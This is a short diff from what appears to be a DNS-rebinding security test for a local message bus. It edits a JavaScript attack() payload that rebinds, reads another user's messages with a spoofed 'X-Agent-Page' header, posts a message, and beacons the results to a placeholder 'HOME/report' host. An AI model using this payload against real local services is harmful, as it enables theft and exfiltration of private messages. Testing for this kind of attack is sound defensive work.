@@ -81,7 +81,8 @@ attack();
 REBOUND = COMMON + """
 async function attack() {
   await fetch("/rebind", {method: "POST"});
-  await keep("get", fetch("/recv?to=bob&since=0&block=false&try=get"));
+  const page = {headers: {"X-Agent-Page": "1"}};  // as the page of the bus says it
+  await keep("get", fetch("/recv?to=bob&since=0&block=false&try=get", page));
   await keep("post", fetch("/send?try=post", {method: "POST", body: message}));
   navigator.sendBeacon("HOME/report", JSON.stringify(read));
 }
